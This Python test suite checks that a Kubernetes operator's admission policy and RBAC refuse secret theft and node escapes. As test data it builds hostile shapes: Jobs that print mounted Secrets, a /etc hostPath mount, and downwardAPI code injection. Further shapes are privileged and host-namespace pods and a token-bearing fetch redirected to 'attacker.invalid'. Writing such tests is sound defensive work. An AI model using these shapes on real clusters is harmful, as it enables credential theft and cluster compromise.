"""The chart's admission policy and RBAC on the real control plane: the operator's ServiceAccount cannot read a
Secret through a Job it creates, and the operator's own children are still admitted.

The chart is installed with the Helm SDK into its own namespace (its operator Deployment can never be
scheduled); the operator runs as a local process with the token of the chart's ServiceAccount, next to a
local node, and serves a PolicyServer whose fetch Job and StatefulSet both name Secrets.  As that
ServiceAccount: a Job that mounts a Secret of the namespace is refused by the policy, however close to the
operator's own it is made; a server pod's spec cannot be changed (a new image would run with its Secrets);
no pod's log can be read; a compile key Secret deleted by hand is created again (a new key, a Warning Event)
for the pod that cannot start without it.  The same requests as the admin are admitted: the policy matches the
ServiceAccount only.  With ``admissionPolicy.allowedImages`` set (a helm upgrade of the release), an image
outside it is refused and one inside admitted, and a PolicyServer of another image says so in its status.
The rules themselves are generated from operator/admission.py.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import helm_python
import kubernetes.config
import pytest
import yaml
from kubernetes.client import ApiClient, ApiException, BatchV1Api, CoreV1Api

from policy_operator import constants as C
from policy_operator.operator import admission, manifests
from policy_operator.operator.spec import parse_spec
from tests.support.http_checkpoint_server import CheckpointServer
from tests.support.local_node_cluster import LocalCluster, OperatorProcess, for_local_node, free_port_on
from tests.support.net import wait_for
from tests.support.servers import VENV_BIN

if TYPE_CHECKING:
    from tests.support.control_plane import ControlPlane

pytestmark = [pytest.mark.slow, pytest.mark.cluster, pytest.mark.timeout(600)]

REPO = Path(__file__).resolve().parents[1]
CHART = REPO / "charts" / "policy-operator"
NS, RELEASE, NAME = "admission-it", "vap", "guarded"
POLICY = f"{RELEASE}-policy-operator.{NS}"
SECRETS = {"fetch-token": "t0k3n", "extra-config": "not a secret to the pods", "not-for-the-operator": "s3cr3t"}
WRONG_IMAGE = "wrong-image"  # the PolicyServer whose image the allowlist refuses
POLICY_SYNC_S = 20.0  # the apiserver compiles a new policy within a second or two


@dataclass
class Env:
    lc: LocalCluster
    operator: OperatorProcess
    client: ApiClient  # the chart's ServiceAccount
    service_account: str
    owner: dict[str, Any]  # the PolicyServer, Ready
    doc: dict[str, Any]  # its manifest
    helm: helm_python.Config
    values: dict[str, Any]  # the release's

    @property
    def username(self) -> str:
        return f"system:serviceaccount:{NS}:{self.service_account}"


@pytest.fixture(scope="module")
def env(control_plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    import subprocess

    work = tmp_path_factory.mktemp("admission-it")
    subprocess.run(
        [str(VENV_BIN / "policyserver"), "checkpoint", "init", str(work / "src" / "ckpt")],
        check=True,
        capture_output=True,
        timeout=120,
    )
    source = CheckpointServer(work / "src").start()
    lc = LocalCluster(control_plane, work / "cluster", NS, backoff_s=1.0, resync_s=0.5, gpus=1, operator=False)
    helm_python.disable_logging()
    config = helm_python.Config(kubeconfig_path=control_plane.kubeconfig, namespace=NS)
    operator: OperatorProcess | None = None
    client: ApiClient | None = None
    try:
        lc.start()
        values = {"watchNamespaces": [NS], "nodeSelector": {"policyoperator.io/test": "no-such-node"}}
        release = config.install(helm_python.Chart.load(CHART), RELEASE, values, namespace=NS, timeout=120)
        assert release["status"] == "deployed", {k: v for k, v in release.items() if k != "manifest"}
        manifest = [d for d in yaml.safe_load_all(release["manifest"]) if d]
        (sa,) = [d["metadata"]["name"] for d in manifest if d["kind"] == "ServiceAccount"]
        for name, value in SECRETS.items():
            lc.kubectl("create", "secret", "generic", name, f"--from-literal={C.SECRET_TOKEN_KEY}={value}")
        token = lc.kubectl("create", "token", sa, "--duration=1h").stdout.strip()
        kubeconfig = control_plane.kubeconfig_for_token(token, work / "operator-sa.kubeconfig")
        client = kubernetes.config.new_client_from_config(config_file=str(kubeconfig))
        operator = OperatorProcess(
            {**control_plane.env, "KUBECONFIG": str(kubeconfig)}, NS, work / "operator-sa.log", resync_s=0.5
        ).start()
        doc = for_local_node(
            yaml.safe_load((REPO / "examples" / "policyserver-minimal.yaml").read_text()),
            source=source.url_for("ckpt/"),
            port=free_port_on(["127.0.0.1", *lc.node.ips(16)]),
        )
        doc["metadata"].update(name=NAME, namespace=NS)
        spec = doc["spec"]
        spec["checkpoint"]["secretRef"] = {"name": "fetch-token"}  # the fetch Job mounts it
        spec["volumes"] = [{"name": "extra", "secret": {"secretName": "extra-config"}}]  # the server pods do
        spec["volumeMounts"] = [{"name": "extra", "mountPath": "/etc/extra", "readOnly": True}]
        lc.kubectl("apply", "-f", "-", input=yaml.safe_dump(doc))
        lc.wait_status(NAME, lambda s: s.get("phase") == C.PHASE_READY, "Ready, reconciled as the ServiceAccount", 240)
        owner = lc.get(C.API_VERSION, C.PLURAL, NAME)
        assert owner is not None
        yield Env(lc, operator, client, sa, owner, doc, config, values)
        lc.kubectl("delete", C.SHORT_NAME, NAME, "--timeout=120s", timeout=150)
    finally:
        if operator is not None:
            operator.stop()
        if client is not None:
            client.close()
        config.uninstall(RELEASE, timeout=60, ignore_not_found=True)
        lc.stop()
        source.stop()
    lc.node.raise_errors()


def owner_reference(owner: dict[str, Any]) -> dict[str, Any]:
    meta = owner["metadata"]
    return {
        "apiVersion": C.API_VERSION,
        "kind": C.KIND,
        "name": meta["name"],
        "uid": meta["uid"],
        "controller": True,
        "blockOwnerDeletion": True,
    }


def reader_job(name: str, secret: str = "not-for-the-operator") -> dict[str, Any]:
    """A Job that prints a Secret to its log: what a stolen token of the ServiceAccount would create."""
    return {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": name, "namespace": NS},
        "spec": {
            "backoffLimit": 0,
            "template": {
                "spec": {
                    "restartPolicy": "Never",
                    "containers": [
                        {
                            "name": "read",
                            "image": "busybox",
                            "command": ["sh", "-c", "cat /s/token"],
                            "volumeMounts": [{"name": "s", "mountPath": "/s"}],
                        }
                    ],
                    "volumes": [{"name": "s", "secret": {"secretName": secret}}],
                }
            },
        },
    }


def dressed_as_the_operators(job: dict[str, Any], owner: dict[str, Any]) -> dict[str, Any]:
    """``job`` with the operator's labels, a controller reference to a real PolicyServer, the ``policyserver``
    entrypoint and no token: everything the policy checks but the Secret."""
    job = copy.deepcopy(job)
    labels = {C.LABEL_MANAGED_BY: C.MANAGED_BY, C.LABEL_POLICYSERVER: owner["metadata"]["name"]}
    job["metadata"].update(labels=labels, ownerReferences=[owner_reference(owner)])
    pod = job["spec"]["template"]
    pod["metadata"] = {"labels": labels}
    pod["spec"]["automountServiceAccountToken"] = False
    source = owner["spec"]["checkpoint"]["source"]  # its own: the policy reads a fetch against its PolicyServer
    pod["spec"]["containers"][0]["command"] = [C.ENTRYPOINT, "fetch", source, "/tmp"]
    # the operator's security contexts (the policy pins them: non-root, no privilege, every capability dropped)
    pod["spec"]["securityContext"] = {
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    pod["spec"]["containers"][0]["securityContext"] = {
        "allowPrivilegeEscalation": False,
        "runAsNonRoot": True,
        "capabilities": {"drop": ["ALL"]},
    }
    return job


def create_job(client: ApiClient, job: dict[str, Any]) -> ApiException | None:
    """A dry-run create (admission runs in full, nothing is stored): the refusal, or None when admitted."""
    try:
        # the client sends a plain dict body as it is (its stubs ask for a V1Job): the test's exact JSON reaches admission
        BatchV1Api(client).create_namespaced_job(NS, job, dry_run="All")  # type: ignore[arg-type]
    except ApiException as exc:
        return exc
    return None


def refused(client: ApiClient, job: dict[str, Any], message: str, policy: str = POLICY) -> ApiException:
    """The policy's refusal of ``job`` (waits the short while a freshly installed policy takes to apply)."""

    def attempt() -> ApiException | None:  # until the policy as it is now answers (a changed one syncs in seconds)
        exc = create_job(client, job)
        if exc is None or exc.status not in (403, 422):
            return None
        return exc if message in json.loads(str(exc.body)).get("message", "") else None

    exc = wait_for(attempt, POLICY_SYNC_S, interval=0.5, what=f"{job['metadata']['name']} refused by admission")
    assert exc.body is not None, exc
    body = json.loads(exc.body)
    assert exc.status == 403 and body["reason"] == "Forbidden", body
    assert f"ValidatingAdmissionPolicy '{policy}'" in body["message"] and "denied request" in body["message"], body
    assert message in body["message"], body
    return exc


def message_of(fragment: str) -> str:
    (validation,) = [v for v in admission.VALIDATIONS if fragment in v.message]
    return validation.message


def test_a_job_that_mounts_a_secret_is_refused_to_the_service_account(env: Env) -> None:
    refused(env.client, reader_job("reader"), message_of("labelled"))


def test_a_job_dressed_as_the_operators_still_may_not_name_an_undeclared_secret(env: Env) -> None:
    job = dressed_as_the_operators(reader_job("dressed"), env.owner)
    refused(env.client, job, message_of("every Secret"))
    # and the other ways out: a shell, a host mount, the pod's token
    shell = copy.deepcopy(job)
    shell["spec"]["template"]["spec"]["volumes"] = [{"name": "s", "emptyDir": {}}]
    shell["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "cat /s/token"]
    refused(env.client, shell, message_of("runs `"))
    host = copy.deepcopy(job)
    host["spec"]["template"]["spec"]["volumes"] = [{"name": "s", "hostPath": {"path": "/etc"}}]
    refused(env.client, host, message_of("hostPath"))
    token = copy.deepcopy(job)
    token["spec"]["template"]["spec"]["volumes"] = [{"name": "s", "emptyDir": {}}]
    token["spec"]["template"]["spec"]["automountServiceAccountToken"] = True
    refused(env.client, token, message_of("ServiceAccount token"))
    stranger = copy.deepcopy(token)
    stranger["spec"]["template"]["spec"]["automountServiceAccountToken"] = False
    stranger["metadata"]["ownerReferences"][0]["kind"] = "Deployment"
    refused(env.client, stranger, message_of("controlled by"))


def test_the_same_job_is_admitted_for_the_admin(env: Env) -> None:
    """The policy matches the operator's ServiceAccount only: RBAC decides for everyone else."""
    assert create_job(env.lc.control_plane.api_client, reader_job("admin-reader")) is None


def test_the_operators_own_children_were_admitted_and_declare_their_secrets(env: Env) -> None:
    (job,) = env.lc.list("batch/v1", "jobs", f"{C.LABEL_INSTANCE}={NAME},{C.LABEL_COMPONENT}={C.COMPONENT_FETCH}")
    assert job["metadata"]["annotations"][C.ANNOTATION_SECRETS] == "fetch-token"
    assert (job.get("status") or {}).get("succeeded") == 1
    sts = env.lc.get("apps/v1", "statefulsets", NAME)
    declared = sts["metadata"]["annotations"][C.ANNOTATION_SECRETS] if sts is not None else None
    assert declared == f"extra-config,{NAME}-compile-key", declared  # the compile key: created by the operator
    secret = env.lc.get("v1", "secrets", f"{NAME}-compile-key")  # (as the admin: the operator cannot read it)
    assert secret is not None and secret["metadata"]["ownerReferences"][0]["uid"] == env.owner["metadata"]["uid"]
    with pytest.raises(ApiException) as denied:
        CoreV1Api(env.client).read_namespaced_secret(f"{NAME}-compile-key", NS)
    assert denied.value.status == 403, denied.value
    assert env.lc.status(NAME)["phase"] == C.PHASE_READY
    # no refusal of this PolicyServer's children: the only ones in the log are the allowlist test's own
    # PolicyServer (WRONG_IMAGE), whichever order the tests ran in
    denials = [
        line
        for line in env.operator.log.read_text(errors="replace").splitlines()
        if "denied request" in line or POLICY in line
    ]
    assert all(WRONG_IMAGE in line for line in denials), denials
    # and the policy really guards this ServiceAccount: its binding names the policy, its condition the account
    policy = env.lc.api.get("admissionregistration.k8s.io/v1", "validatingadmissionpolicies", POLICY)
    assert policy is not None and env.username in policy["spec"]["matchConditions"][0]["expression"]


def test_a_deleted_compile_key_is_created_again_for_the_pod_that_needs_it(env: Env) -> None:
    """The operator cannot read Secrets, so a compile key deleted by hand shows only as a server pod the kubelet
    cannot start; the operator, as the chart's ServiceAccount, creates a new key (the admission policy lets it)
    and says so in an Event, and the pod starts.  Leaves the PolicyServer Ready, with its key."""
    key, servers = f"{NAME}-compile-key", f"{C.LABEL_INSTANCE}={NAME},{C.LABEL_COMPONENT}={C.COMPONENT_SERVER}"
    old = env.lc.existing("v1", "secrets", key)
    (pod,) = env.lc.list("v1", "pods", servers)
    env.lc.kubectl("delete", "secret", key)
    env.lc.kubectl("delete", "pod", pod["metadata"]["name"], "--wait=false")

    def recreated() -> dict[str, Any] | None:
        secret = env.lc.get("v1", "secrets", key)
        return secret if secret is not None and secret["metadata"]["uid"] != old["metadata"]["uid"] else None

    secret = wait_for(recreated, 120, interval=0.2, what=f"{key} created again")
    assert secret["metadata"]["ownerReferences"][0]["uid"] == env.owner["metadata"]["uid"]
    assert secret["data"][manifests.COMPILE_KEY_DATA] != old["data"][manifests.COMPILE_KEY_DATA]  # a new key

    def started() -> bool:
        pods = env.lc.list("v1", "pods", servers)
        return any(
            p["metadata"]["uid"] != pod["metadata"]["uid"]
            and any(c["type"] == "Ready" and c["status"] == "True" for c in p.get("status", {}).get("conditions", []))
            for p in pods
        )

    wait_for(started, 240, interval=0.2, what="a new server pod Ready with the new key")
    env.lc.wait_status(NAME, lambda s: s.get("phase") == C.PHASE_READY, "Ready again", 60)
    events = json.loads(env.lc.kubectl("get", "events", "--field-selector", "reason=Recreated", "-o", "json").stdout)[
        "items"
    ]
    assert any(key in e["message"] and e["type"] == "Warning" for e in events), events


def test_the_service_account_may_annotate_a_server_pod_but_not_change_it(env: Env) -> None:
    (pod,) = env.lc.list("v1", "pods", f"{C.LABEL_INSTANCE}={NAME},{C.LABEL_COMPONENT}={C.COMPONENT_SERVER}")
    core, name = CoreV1Api(env.client), pod["metadata"]["name"]
    core.patch_namespaced_pod(name, NS, {"metadata": {"annotations": {"policyoperator.io/test": "1"}}}, dry_run="All")
    image = {"spec": {"containers": [{"name": "server", "image": "busybox"}]}}
    with pytest.raises(ApiException) as denied:
        core.patch_namespaced_pod(name, NS, image, dry_run="All")
    assert denied.value.body is not None, denied.value
    assert denied.value.status == 403 and message_of("pod's spec") in denied.value.body, denied.value.body


def test_the_service_account_cannot_read_pod_logs(env: Env) -> None:
    as_sa = f"--as={env.username}"
    answer = env.lc.kubectl("auth", "can-i", "get", "pods", "--subresource=log", as_sa, check=False)
    assert answer.stdout.strip() == "no", (answer.stdout, answer.stderr)
    (pod,) = env.lc.list("v1", "pods", f"{C.LABEL_INSTANCE}={NAME},{C.LABEL_COMPONENT}={C.COMPONENT_SERVER}")
    with pytest.raises(ApiException) as denied:
        CoreV1Api(env.client).read_namespaced_pod_log(pod["metadata"]["name"], NS, container="server")
    assert denied.value.body is not None, denied.value
    assert denied.value.status == 403 and "pods/log" in denied.value.body, denied.value.body


ALLOWED = "ghcr.io/policy-operator/"  # the examples' image is under it
HOST = "registry.example.net/"  # a registry path: its repositories, nested ones too, not another port's
REPOSITORY = "allowed.io/x"  # one repository: no repository nested under it (issue 40 item 14)
PINNED = "pinned.io/app:1.0"  # one tag: no digest after it (issue 40 item 14)
ENTRIES = (ALLOWED, HOST, REPOSITORY, PINNED)
IMAGE_RULE = f"is not allowed: admissionPolicy.allowedImages is [{', '.join(ENTRIES)}]"


def plain_job(name: str, owner: dict[str, Any], image: str) -> dict[str, Any]:
    """The operator's shape in every respect (no Secret at all) but for ``image``."""
    job = dressed_as_the_operators(reader_job(name), owner)
    pod = job["spec"]["template"]["spec"]
    pod["volumes"] = [{"name": "s", "emptyDir": {}}]
    pod["containers"][0]["image"] = image
    return job


def test_an_image_allowlist_refuses_other_images_and_the_policyserver_says_so(env: Env) -> None:
    """Its refused PolicyServer (WRONG_IMAGE) leaves a denial in the operator's log, which the other tests'
    check of that log tells apart by name."""
    chart = helm_python.Chart.load(CHART)
    allowlist = {**env.values, "admissionPolicy": {"allowedImages": list(ENTRIES)}}
    env.helm.upgrade(chart, RELEASE, allowlist, namespace=NS, timeout=120)
    name = WRONG_IMAGE
    try:
        refused(env.client, plain_job("other", env.owner, "busybox"), f"image busybox {IMAGE_RULE}")
        evil = "ghcr.io/policy-operator-evil/policy-server:1"
        refused(env.client, plain_job("evil", env.owner, evil), f"image {evil} {IMAGE_RULE}")
        assert create_job(env.client, plain_job("ours", env.owner, f"{ALLOWED}policy-server:0.1.0")) is None
        assert create_job(env.client, plain_job("host", env.owner, f"{HOST}robots/server:1")) is None
        port = f"{HOST.rstrip('/')}:5000/robots/server:1"  # the API server's own CEL: substring, lastIndexOf
        refused(env.client, plain_job("port", env.owner, port), f"image {port} {IMAGE_RULE}")
        # issue 40 item 14: a repository entry admits no nested repository, a tag entry no digest after it
        for image in (f"{REPOSITORY}/y:1", f"{PINNED}@sha256:{'a' * 64}"):
            refused(env.client, plain_job("exact", env.owner, image), f"image {image} {IMAGE_RULE}")
        for image in (f"{REPOSITORY}:1", f"{REPOSITORY}@sha256:{'a' * 64}", PINNED):
            assert create_job(env.client, plain_job("exact", env.owner, image)) is None, image
        assert create_job(env.lc.control_plane.api_client, plain_job("admin", env.owner, "busybox")) is None

        doc = copy.deepcopy(env.doc)
        doc["metadata"] = {"name": name, "namespace": NS}
        image = "registry.example.com/robots/policy-server:1"
        doc["spec"]["image"] = image
        for field in ("volumes", "volumeMounts"):
            doc["spec"].pop(field)
        doc["spec"]["checkpoint"].pop("secretRef")
        env.lc.kubectl("apply", "-f", "-", input=yaml.safe_dump(doc))

        def progressing(status: dict[str, Any]) -> dict[str, Any]:
            return next((c for c in status.get("conditions") or [] if c["type"] == C.COND_PROGRESSING), {})

        status = env.lc.wait_status(
            name, lambda s: progressing(s).get("status") == "False", "Progressing=False: its Job refused", 120
        )
        condition = progressing(status)
        assert condition["reason"] == "ApplyFailed", condition
        assert f"image {image} {IMAGE_RULE}" in condition["message"] and POLICY in condition["message"], condition
        env.lc.api.wait_event(NS, name, "Warning", "ApplyFailed", message=image)
        # the allowed PolicyServer's children are still admitted on every pass
        assert env.lc.status(NAME)["phase"] == C.PHASE_READY
    finally:
        env.lc.kubectl("delete", C.SHORT_NAME, name, "--ignore-not-found", "--timeout=120s", timeout=150)
        env.helm.upgrade(chart, RELEASE, env.values, namespace=NS, timeout=120)
    wait_for(
        lambda: create_job(env.client, plain_job("any", env.owner, "busybox")) is None,
        POLICY_SYNC_S,
        interval=0.5,
        what="any image admitted again without the allowlist",
    )


DEV = "dev"  # an ordinary user of the namespace: PolicyServers only, no pods, no Secrets


def as_dev(env: Env, doc: dict[str, Any]) -> str:
    """``doc`` applied by ``dev`` as a server-side dry run: the API server's refusal ('' when admitted)."""
    done = env.lc.kubectl("apply", f"--as={DEV}", "--dry-run=server", "-f", "-", input=yaml.safe_dump(doc), check=False)
    return "" if done.returncode == 0 else done.stderr


def test_issue_39_attacks_are_refused_at_admission_naming_the_field(env: Env) -> None:
    """issue 39 items 1 and 4 replayed on the API server: ``dev``'s PolicyServer that ran code as another
    ServiceAccount, field by field (the authors' policy answers with dev's own rights; the CRD refuses a reserved
    environment name), then the operator's ServiceAccount's node-escape shapes (its policy) and a privileged pod
    in a namespace labelled for PodSecurity restricted (PSA): each refused, naming what it refuses."""
    rbac = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": DEV, "namespace": NS},
        "rules": [{"apiGroups": [C.GROUP], "resources": [C.PLURAL], "verbs": ["*"]}],
    }
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": DEV, "namespace": NS},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": DEV},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": DEV}],
    }
    env.lc.kubectl("apply", "-f", "-", input=yaml.safe_dump_all([rbac, binding]))
    base = copy.deepcopy(env.doc)
    base["metadata"] = {"name": "attack", "namespace": NS}
    for field in ("volumes", "volumeMounts"):
        base["spec"].pop(field)
    base["spec"]["checkpoint"].pop("secretRef")
    wait_for(lambda: as_dev(env, base) == "", POLICY_SYNC_S, interval=0.5, what="dev may apply a plain one")
    authors = f"{RELEASE}-policy-operator-authors.{NS}"
    code = {"path": "sitecustomize.py", "fieldRef": {"fieldPath": "metadata.annotations['code']"}}
    attacks: dict[str, tuple[dict[str, Any], str]] = {
        "serviceAccountName": ({"serviceAccountName": "ci-deployer"}, "spec.serviceAccountName: ci-deployer"),
        "downwardAPI": (
            {
                "podAnnotations": {"code": "open('/tmp/pwned', 'w')"},
                "volumes": [{"name": "py", "downwardAPI": {"items": [code]}}],
                "volumeMounts": [{"name": "py", "mountPath": "/py"}],
            },
            "spec.volumes: a downwardAPI file of the pod's annotations",
        ),
        "projected token": (
            {
                "volumes": [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}],
                "volumeMounts": [{"name": "t", "mountPath": "/t"}],
            },
            "spec.volumes: a projected serviceAccountToken",
        ),
        "secretKeyRef": (
            {
                "runtime": {
                    "env": [
                        {"name": "S", "valueFrom": {"secretKeyRef": {"name": "not-for-the-operator", "key": "token"}}}
                    ]
                }
            },
            "spec.runtime.env, spec.checkpoint.fetchJob.env: valueFrom.secretKeyRef of a Secret the requesting",
        ),
        "secret volume": (
            {
                "volumes": [{"name": "s", "secret": {"secretName": "extra-config"}}],
                "volumeMounts": [{"name": "s", "mountPath": "/s"}],
            },
            "spec.volumes: a secret, projected secret or csi nodePublishSecretRef the requesting user",
        ),
        "checkpoint secretRef": (
            {"checkpoint": {**base["spec"]["checkpoint"], "secretRef": {"name": "fetch-token"}}},
            "spec.checkpoint.secretRef, spec.auth.secretRef, spec.imagePullSecrets: a Secret the requesting",
        ),
        "another's cache": (
            {
                "volumes": [{"name": "c", "persistentVolumeClaim": {"claimName": f"{NAME}-cache"}}],
                "volumeMounts": [{"name": "c", "mountPath": "/c"}],
            },
            "spec.volumes[].persistentVolumeClaim, spec.storage.existingClaim: a claim named like",
        ),
        "PYTHONPATH": (
            {"runtime": {"env": [{"name": "PYTHONPATH", "value": "/py"}]}},
            "spec.runtime.env[0].name: Forbidden: names the interpreter",
        ),
    }
    for what, (fields, expected) in attacks.items():
        doc = copy.deepcopy(base)
        doc["spec"].update(fields)
        refusal = as_dev(env, doc)
        assert expected in refusal, (what, refusal)
        if what != "PYTHONPATH":  # the CRD's own rule; the rest are the authors' policy's
            assert f"ValidatingAdmissionPolicy '{authors}'" in refusal, (what, refusal)
    # the admin, who may read those Secrets, is refused nothing of theirs: the policy asks the requesting user's rights
    admin = copy.deepcopy(base)
    admin["spec"].update(attacks["secret volume"][0])
    assert env.lc.kubectl("apply", "--dry-run=server", "-f", "-", input=yaml.safe_dump(admin)).returncode == 0

    # the operator's ServiceAccount: host namespaces, privilege, host ports, node name, root, tolerate-all
    shapes = {
        "hostNetwork": lambda p: p.update(hostNetwork=True),
        "hostPID": lambda p: p.update(hostPID=True),
        "nodeName": lambda p: p.update(nodeName="node-1"),
        "tolerate-all": lambda p: p.update(tolerations=[{"operator": "Exists"}]),
        # (the API server's own validation refuses privilege with allowPrivilegeEscalation false: both set)
        "privileged": lambda p: p["containers"][0]["securityContext"].update(
            privileged=True, allowPrivilegeEscalation=True
        ),
        "SYS_ADMIN": lambda p: p["containers"][0]["securityContext"].update(
            allowPrivilegeEscalation=True, capabilities={"add": ["SYS_ADMIN"]}
        ),
        "hostPort": lambda p: p["containers"][0].update(ports=[{"containerPort": 80, "hostPort": 80}]),
    }
    for what, change in shapes.items():
        job = plain_job("escape", env.owner, env.doc["spec"]["image"])
        pod = job["spec"]["template"]["spec"]
        assert create_job(env.client, job) is None, f"{what}: the unchanged shape is the operator's"
        change(pod)
        if what == "tolerate-all":  # also not one of the PolicyServer's: either policy may answer first
            exc = create_job(env.client, job)
            assert exc is not None and exc.status == 403, (what, exc)
            reasons = (message_of("host namespace"), "one its PolicyServer's spec.tolerations lists")
            assert any(r in json.loads(str(exc.body))["message"] for r in reasons), exc.body
            continue
        refused(env.client, job, message_of("host namespace"))

    # the attack's exfiltration: the PolicyServer's own fetch Job, its Secret declared, sent to another host
    spec = parse_spec(env.doc["spec"], name=NAME, namespace=NS)
    exfil = manifests.build_fetch_job(spec)
    exfil["metadata"]["name"] = "exfil"
    exfil["metadata"]["ownerReferences"] = [owner_reference(env.owner)]
    command = exfil["spec"]["template"]["spec"]["containers"][0]["command"]
    assert "--token-file" in command and exfil["metadata"]["annotations"][C.ANNOTATION_SECRETS] == "fetch-token"
    assert create_job(env.client, exfil) is None, "the operator's own Job, as it is, is admitted"
    command[2] = "http://attacker.invalid/"
    children = f"{RELEASE}-policy-operator-children.{NS}"
    refused(env.client, exfil, "a fetch downloads the PolicyServer's own spec.checkpoint.source", children)

    # and the namespace's PodSecurity level refuses the privileged pod a second time, whoever sends it
    label = "pod-security.kubernetes.io/enforce"
    env.lc.kubectl("label", "namespace", NS, f"{label}=restricted", "--overwrite")
    try:
        (server,) = env.lc.list("v1", "pods", f"{C.LABEL_INSTANCE}={NAME},{C.LABEL_COMPONENT}={C.COMPONENT_SERVER}")
        pod = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "psa-check", "namespace": NS},
            "spec": {k: v for k, v in server["spec"].items() if k != "nodeName"},
        }
        core = CoreV1Api(env.lc.control_plane.api_client)
        core.create_namespaced_pod(NS, pod, dry_run="All")  # type: ignore[arg-type]  # the operator's shape passes
        pod["spec"]["containers"][0]["securityContext"] = {"privileged": True}
        with pytest.raises(ApiException) as denied:
            core.create_namespaced_pod(NS, pod, dry_run="All")  # type: ignore[arg-type]
        assert denied.value.status == 403, denied.value
        assert 'violates PodSecurity "restricted' in json.loads(str(denied.value.body))["message"], denied.value.body
    finally:
        env.lc.kubectl("label", "namespace", NS, f"{label}-")
